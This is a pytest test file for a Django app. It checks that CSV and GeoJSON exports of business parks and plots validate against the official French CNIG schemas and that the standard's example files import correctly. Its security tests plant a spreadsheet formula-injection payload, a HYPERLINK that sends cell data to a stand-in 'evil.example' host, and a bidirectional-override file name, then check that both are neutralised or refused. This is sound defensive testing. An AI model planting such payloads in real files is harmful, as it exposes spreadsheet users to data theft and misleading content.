"""The official CNIG schemas, both ways: our exports validate against the
official Table Schema descriptors (frictionless), and the standard's own example
files, moved into the territory, import."""

import csv
import io
import json
import re
from pathlib import Path

import frictionless
import pytest
from django.contrib.gis.geos import MultiPolygon, Point, Polygon
from django.urls import reverse
from django.utils import translation

from exchange import cnig
from exchange.export import listings_csv, listings_geojson
from exchange.importing import CREATE, REFUSE, listings_import
from exchange.opendata import open_data_write
from leads.models import Lead
from sites import codes
from sites.models import BusinessPark, Commune, Organisation, Plot

pytestmark = pytest.mark.django_db
STANDARD = Path(__file__).resolve().parents[2] / "docs" / "standards" / "cnig-zae"
SCHEMAS = {cnig.SITE: "site-eco", cnig.TERRAIN: "terrain-eco"}
DATASETS = {cnig.SITE: "zae-sites", cnig.TERRAIN: "zae-terrains"}


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


def descriptor(kind):
    return json.loads((STANDARD / f"{SCHEMAS[kind]}.schema.json").read_text())


def strict(document):
    """The official descriptor with each field's code list where frictionless
    checks it: the standard puts `enum` beside `constraints`, where frictionless
    does not look (its own example passes with codes off its lists)."""
    document = json.loads(json.dumps(document))
    for field in document["fields"]:
        if "enum" in field:
            field.setdefault("constraints", {})["enum"] = field.pop("enum")
    return document


def errors(content, schema, tmp_path, delimiter=","):
    path = tmp_path / "export.csv"
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    resource = frictionless.Resource(
        path=path.name,
        basepath=str(tmp_path),
        schema=frictionless.Schema.from_descriptor(schema),
        control=frictionless.formats.CsvControl(delimiter=delimiter),
    )
    report = frictionless.validate(resource)
    return report.flatten(["rowNumber", "fieldName", "type", "message"])


# The table against the descriptors.


@pytest.mark.parametrize("kind", [cnig.SITE, cnig.TERRAIN])
def test_official_columns_are_the_standards_in_its_order(kind):
    fields = descriptor(kind)["fields"]
    assert [c.name for c in cnig.OFFICIAL[kind]] == [f["name"] for f in fields]
    read_and_required = {
        f["name"]
        for f, c in zip(fields, cnig.OFFICIAL[kind], strict=True)
        if f["constraints"].get("required")
        and c.importable
        and c.field
        and c.codec != cnig.GEOMETRY
    }
    assert read_and_required == cnig.REQUIRED[kind]


@pytest.mark.parametrize("kind", [cnig.SITE, cnig.TERRAIN])
def test_code_lists_are_the_standards(kind):
    enums = {f["name"]: f["enum"] for f in descriptor(kind)["fields"] if "enum" in f}
    for column in cnig.OFFICIAL[kind]:
        if column.codec == cnig.CODE:
            assert list(column.choices.values) == enums.pop(column.name), column
    assert enums == {}  # every code list is held


def test_code_labels_are_translated():
    for language, expected in (("fr", "En vente"), ("nl", "Te koop")):
        with translation.override(language):
            assert str(codes.CommercialStage.FOR_SALE.label) == expected


# Our exports against the descriptors.


def open_data_links(client):
    html = client.get(reverse("exchange:opendata")).content.decode()
    return set(re.findall(r'href="([^"]+/opendata/[^"]+)"', html))


@pytest.mark.parametrize("kind", [cnig.SITE, cnig.TERRAIN])
def test_open_data_csv_validates_against_the_official_schema(
    client, open_data, kind, tmp_path
):
    url = reverse("exchange:opendata-file", args=[DATASETS[kind], "csv"])
    assert url in open_data_links(client)
    content = client.get(url).getvalue()
    assert content.count(b"\n") > 1  # rows, not only the header
    assert errors(content, descriptor(kind), tmp_path) == []
    assert errors(content, strict(descriptor(kind)), tmp_path) == []


@pytest.mark.parametrize("kind", [cnig.SITE, cnig.TERRAIN])
def test_spreadsheet_csv_is_the_same_table_for_french_office_software(
    client, open_data, kind, tmp_path
):
    url = reverse("exchange:opendata-file", args=[f"{DATASETS[kind]}-tableur", "csv"])
    assert url in open_data_links(client)
    content = client.get(url).getvalue()
    assert content.startswith("\ufeff".encode())
    text = content.decode("utf-8-sig")
    assert text.splitlines()[0].split(";")[:2] == [
        c.name for c in cnig.OFFICIAL[kind][:2]
    ]
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows == list(csv.reader(io.StringIO(listings_csv(kind))))
    assert errors(content, strict(descriptor(kind)), tmp_path, delimiter=";") == []


def test_an_imported_web_page_validates_whatever_the_case_of_its_scheme(demo, tmp_path):
    """site_url's pattern takes http(s) in lower case; the import stored
    "HTTP://..." as written (the admin's form lower-cases it), and the
    official CSV no longer validated."""
    park = BusinessPark.objects.published().filter(organisation__slug="call").first()
    content = f"slug,site_url\n{park.slug},HTTPS://Example.org/ZAE\n".encode()
    assert import_call(content, dry_run=False).committed
    park.refresh_from_db()
    assert park.website == "https://Example.org/ZAE"
    table = listings_csv(cnig.SITE, BusinessPark.objects.filter(pk=park.pk))
    assert errors(table, descriptor(cnig.SITE), tmp_path) == []


def test_extended_files_add_our_columns_after_the_official_ones(demo):
    header = listings_csv(cnig.TERRAIN, extended=True).splitlines()[0].split(",")
    official = [c.name for c in cnig.OFFICIAL[cnig.TERRAIN]]
    assert header[: len(official)] == official
    assert {"slug", "name", "description_en", "description_nl"} <= set(header)
    properties = json.loads(listings_geojson(cnig.SITE, extended=True))["features"][0][
        "properties"
    ]
    assert {"site_nom", "slug", "description_fr", "description_nl"} <= set(properties)


def signed_area(ring):
    return sum(
        x1 * y2 - x2 * y1 for (x1, y1), (x2, y2) in zip(ring, ring[1:], strict=False)
    )


def test_geojson_rings_turn_as_rfc_7946_says(client, demo, open_data_root):
    plot = Plot.objects.filter(park__organisation__slug="call").first()
    # A clockwise shell with a counter-clockwise hole: the wrong way round.
    x, y = plot.geom.point_on_surface.coords
    shell = [(x - 40, y - 40), (x - 40, y + 40), (x + 40, y + 40), (x + 40, y - 40)]
    hole = [(x - 10, y - 10), (x + 10, y - 10), (x + 10, y + 10), (x - 10, y + 10)]
    outline = Polygon(shell + shell[:1], hole + hole[:1], srid=plot.geom.srid)
    assert not outline.exterior_ring.is_counterclockwise
    plot.geom = MultiPolygon(outline, srid=plot.geom.srid)
    plot.save()
    open_data_write()
    for kind in (cnig.SITE, cnig.TERRAIN):
        url = reverse("exchange:opendata-file", args=[DATASETS[kind], "geojson"])
        features = json.loads(client.get(url).getvalue())["features"]
        rings = 0
        for feature in features:
            for polygon in feature["geometry"]["coordinates"]:
                assert signed_area(polygon[0]) > 0, feature["properties"]
                assert all(signed_area(hole) < 0 for hole in polygon[1:])
                rings += len(polygon)
        assert rings > len(features) - 1
    assert any(len(p) == 2 for f in features for p in f["geometry"]["coordinates"])


def test_every_csv_cell_that_a_spreadsheet_would_run_is_neutralised(demo):
    park = BusinessPark.objects.filter(organisation__slug="call").first()
    park.name = '=HYPERLINK("http://evil.example/?"&A1,"Parc")'
    park.save()
    plot = park.plots.first()
    plot.name = "@SUM(1+1)"
    plot.zoning = "+UE"
    plot.save()
    for kind, cell in ((cnig.SITE, park.name), (cnig.TERRAIN, plot.name)):
        for text in (
            listings_csv(kind),
            listings_csv(kind, spreadsheet=True).lstrip("\ufeff"),
            listings_csv(kind, extended=True),
        ):
            delimiter = ";" if text.splitlines()[0].count(";") > 3 else ","
            cells = [
                c
                for row in csv.reader(io.StringIO(text), delimiter=delimiter)
                for c in row
            ]
            assert not any(
                c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells
            )
            if kind == cnig.SITE or "slug" in cells:
                assert "'" + cell in cells
    # The import takes the apostrophe off again.
    content = listings_csv(cnig.TERRAIN, Plot.objects.filter(pk=plot.pk), extended=True)
    report = listings_import(
        file=io.BytesIO(content.encode()),
        organisation=Organisation.objects.get(slug="call"),
    )
    assert [r.action for r in report.rows] == ["unchanged"], report.rows


def test_a_park_west_of_greenwich_validates_and_its_name_is_still_neutralised(
    demo, tmp_path
):
    # At the scale of France: a centroid "-3.000000, 48.000000" is no formula,
    # and an apostrophe before it broke the official geopoint column.
    park = BusinessPark.objects.published().first()
    west = Point(-3.0, 48.0, srid=4326).transform(park.centroid.srid, clone=True)
    BusinessPark.objects.filter(pk=park.pk).update(
        centroid=west, name="-1, 2 =HYPERLINK(A1)"
    )
    parks = BusinessPark.objects.filter(pk=park.pk)
    for table, delimiter in (
        (listings_csv(cnig.SITE, parks), ","),
        (listings_csv(cnig.SITE, parks, spreadsheet=True), ";"),
    ):
        [_header, row] = csv.reader(
            io.StringIO(table.lstrip("\ufeff")), delimiter=delimiter
        )
        assert "-3.000000, 48.000000" in row
        assert "'-1, 2 =HYPERLINK(A1)" in row
        content = table.encode()
        assert errors(content, strict(descriptor(cnig.SITE)), tmp_path, delimiter) == []


# The standard's example files, moved into the territory.

TARGET_COMMUNE = "Avion"  # in CALL's territory, holding no demo listing


def moved_example(kind, **replace):
    """The official example file, its outlines shifted (not otherwise changed)
    so that they lie in TARGET_COMMUNE, and the commune it names replaced."""
    commune = Commune.objects.get(name=TARGET_COMMUNE)
    text = (STANDARD / f"{SCHEMAS[kind]}.exemple-valide.csv").read_text("utf-8")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    first = json.loads(
        next(csv.DictReader(io.StringIO(text), delimiter=";"))[
            "site_geomsurf" if kind == cnig.SITE else "terr_geomsurf"
        ]
    )["coordinates"][0][0]
    dx, dy = commune.point.x - first[0], commune.point.y - first[1]
    for row in rows:
        column = "site_geomsurf" if kind == cnig.SITE else "terr_geomsurf"
        geometry = json.loads(row[column])
        geometry["coordinates"] = [
            [[round(x + dx, 3), round(y + dy, 3)] for x, y in ring]
            for ring in geometry["coordinates"]
        ]
        row[column] = json.dumps(geometry)
        if kind == cnig.SITE:
            row["site_comm_insee"], row["site_comm_nom"] = commune.insee, commune.name
        row.update(replace)
    output = io.StringIO()
    writer = csv.DictWriter(output, fieldnames=list(rows[0]), delimiter=";")
    writer.writeheader()
    writer.writerows(rows)
    return output.getvalue().encode()


def import_call(content, dry_run=True):
    return listings_import(
        file=io.BytesIO(content),
        organisation=Organisation.objects.get(slug="call"),
        dry_run=dry_run,
    )


def test_the_published_site_example_is_refused_only_for_its_off_list_state(demo):
    """The example writes site_etat 'logistique' (the second half of its
    vocation 'entrepôts, logistique'), which no code of site_etat resembles;
    frictionless lets it through, we do not. Its other off-list spellings
    are read as the one code they stand for, and said so."""
    [row] = import_call(moved_example(cnig.SITE)).rows
    assert row.action == REFUSE
    assert (
        len(row.details) == 1
        and "site_etat: 'logistique' is not a code" in (row.details[0])
    )
    # 'EPCI', 'extension' and 'entrepôts' were understood.
    fixed = moved_example(cnig.SITE, site_etat="existant et actif")
    [row] = import_call(fixed).rows
    assert row.action == CREATE, row.details
    assert any("'EPCI' read as 'epci'" in d for d in row.details)
    assert any("'entrepôts' read as 'entrepôts, logistique'" in d for d in row.details)


def test_the_official_examples_moved_into_the_territory_import(demo):
    site = moved_example(cnig.SITE, site_etat="existant et actif")
    report = import_call(site)
    assert report.ok and report.refused == 0, report.rows
    assert import_call(site, dry_run=False).committed
    park = BusinessPark.objects.get(reference="80024_SITE-ECO_00001")
    assert park.name == "ZAC Les Bornes du Temps" and park.organisation.slug == "call"
    assert park.state == codes.ParkState.ACTIVE
    assert park.dominant_vocation == codes.DominantVocation.LOGISTICS
    assert park.owner_type == codes.OwnerType.EPCI
    assert str(park.identified_on) == "2016-03-26"

    terrain = moved_example(cnig.TERRAIN)
    report = import_call(terrain)
    assert report.ok and report.refused == 0, report.rows
    [row] = report.rows
    assert row.action == CREATE
    assert any("terr_acquereur" in d for d in row.details)  # not kept, and said
    assert import_call(terrain, dry_run=False).committed
    plot = Plot.objects.get(reference="80024_TERRAIN-ECO_00131")
    assert plot.park == park and plot.commune.name == TARGET_COMMUNE
    assert plot.commercial_stage == codes.CommercialStage.SOLD
    assert plot.marketing_stage == Plot.MarketingStage.SOLD
    assert plot.cadastral_refs == "80024000ZO0030|80024000ZO0034|80024000ZO0035"

    # And our official export gives the example's values back.
    exported = next(
        r
        for r in csv.DictReader(
            io.StringIO(listings_csv(cnig.TERRAIN, Plot.objects.all()))
        )
        if r["terr_id"] == "80024_TERRAIN-ECO_00131"
    )
    example = next(csv.DictReader(io.StringIO(terrain.decode()), delimiter=";"))
    for name in (
        "site_id",
        "terr_refcad",
        "terr_identif_date",
        "terr_maitrise_fonc",
        "terr_stade_amngt",
        "terr_stade_comm",
        "terr_etat_occup",
        "terr_usage",
        "terr_cle_en_main",
    ):
        assert exported[name] == example[name], name


def test_official_export_import_export_round_trips_unchanged(demo):
    before = {kind: listings_csv(kind) for kind in (cnig.SITE, cnig.TERRAIN)}
    extended = {k: listings_csv(k, extended=True) for k in (cnig.SITE, cnig.TERRAIN)}
    for content in before.values():
        report = listings_import(
            file=io.BytesIO(content.encode()),
            organisation=Organisation.objects.get(slug="pma"),
        )
        assert report.ok and {r.action for r in report.rows} == {"unchanged"}, [
            r for r in report.rows if r.action != "unchanged"
        ][:3]
    Lead.objects.all().delete()
    Plot.objects.all().delete()
    BusinessPark.objects.all().delete()
    for kind in (cnig.SITE, cnig.TERRAIN):
        report = listings_import(
            file=io.BytesIO(extended[kind].encode()),
            organisation=Organisation.objects.get(slug="pma"),
            dry_run=False,
        )
        assert report.committed, [r for r in report.rows if r.action == REFUSE][:3]
    after = {kind: listings_csv(kind) for kind in (cnig.SITE, cnig.TERRAIN)}
    assert after == before
    assert {k: listings_csv(k, extended=True) for k in extended} == extended


@pytest.mark.parametrize("kind", [cnig.SITE, cnig.TERRAIN])
def test_missing_values_are_the_standards(kind):
    assert set(descriptor(kind)["missingValues"]) == cnig.MISSING


def test_the_standards_missing_values_are_read_as_empty_cells(demo):
    """The descriptors' missingValues ("NA", "NaN", "N/A") are empty cells:
    'NA' as a distance was refused as no number, as a pole_id kept."""
    park = BusinessPark.objects.filter(organisation__slug="call").first()
    park.station_km = 3
    park.pole_reference = "POLE-1"
    park.save()
    plot = park.plots.first()
    content = f"slug,gare_dist,pole_id\n{park.slug},NA,N/A\n".encode()
    [row] = import_call(content).rows
    assert row.action == REFUSE
    assert row.details == ["pole_id: required by the standard"]
    content = f"slug,gare_dist,reseau_gaz\n{park.slug},NA,NaN\n".encode()
    assert import_call(content, dry_run=False).committed
    park.refresh_from_db()
    assert park.station_km is None and park.pole_reference == "POLE-1"
    content = f"slug,terr_refcad,terr_cle_en_main\n{plot.slug},N/A,NA\n".encode()
    [row] = import_call(content).rows
    assert row.action != REFUSE, row.details
    # Our own columns are not the standard's: a name may be "NA".
    content = f"slug,name\n{plot.slug},NA\n".encode()
    assert import_call(content, dry_run=False).committed
    plot.refresh_from_db()
    assert plot.name == "NA"


@pytest.mark.parametrize(
    "field, value",
    [("pole_reference", "NA"), ("reference", "N/A"), ("name", "NaN")],
)
def test_a_park_cannot_hold_what_the_standard_reads_as_empty(demo, field, value):
    """A pole_id typed "NA" for "no pole" is an empty cell in the standard's
    required column: the open-data files were no longer valid."""
    from django.core.exceptions import ValidationError

    park = BusinessPark.objects.published().first()
    setattr(park, field, value)
    with pytest.raises(ValidationError) as refused:
        park.full_clean()
    [message] = refused.value.message_dict[field]
    assert f"read “{value}” as an empty cell" in message
    plot = park.plots.first()
    plot.reference = " NA "
    with pytest.raises(ValidationError):
        plot.full_clean()
    plot.reference, plot.name = "", "NA"  # a plot's name is not in the files
    plot.full_clean()


@pytest.mark.parametrize("control", ["\u202e", "\u2066", "\n", "\x85"])
def test_a_listing_s_name_or_reference_is_one_line_in_its_own_order(demo, control):
    """A bidirectional override shows "\u202eelif.exe" as "exe.file" on the
    pages and in the developers' emails; a line break splits a name in the
    files. Refused by the forms (the admin) and by the import alike."""
    from django.core.exceptions import ValidationError

    park = BusinessPark.objects.filter(organisation__slug="call").first()
    for listing, field in [
        (park, "name"),
        (park, "pole_reference"),
        (park.plots.first(), "name"),
        (park.plots.first(), "reference"),
    ]:
        setattr(listing, field, f"Lot{control}B")
        with pytest.raises(ValidationError) as refused:
            listing.full_clean()
        assert "invisible control characters" in refused.value.message_dict[field][0]
    plot = park.plots.first()
    content = f'slug,name\n{plot.slug},"Lot{control}B"\n'.encode()
    [row] = import_call(content).rows
    assert row.action == REFUSE
    assert not import_call(content, dry_run=False).committed
    plot.refresh_from_db()
    assert control not in plot.name


def test_a_description_is_bounded_in_each_language(demo):
    """The plot and park pages show a description whole, and a pasted
    document of 100,000 characters was accepted: the admin's forms and the
    import refuse one too long alike."""
    from django.core.exceptions import ValidationError

    from sites.models import DESCRIPTION_MAX_LENGTH, Organisation

    park = BusinessPark.objects.filter(organisation__slug="call").first()
    plot = park.plots.first()
    longest, too_long = "a" * DESCRIPTION_MAX_LENGTH, "a" * (DESCRIPTION_MAX_LENGTH + 1)
    for instance, field in [
        (park, "description_nl"),
        (plot, "description_fr"),
        (Organisation.objects.get(slug="call"), "description_en"),
    ]:
        setattr(instance, field, longest)
        instance.full_clean()
        setattr(instance, field, too_long)
        with pytest.raises(ValidationError) as refused:
            instance.full_clean()
        assert field in refused.value.message_dict
    content = f"slug,description_en\n{plot.slug},{too_long}\n".encode()
    [row] = import_call(content).rows
    assert row.action == REFUSE
    content = f"slug,description_en\n{plot.slug},{longest}\n".encode()
    assert import_call(content, dry_run=False).committed
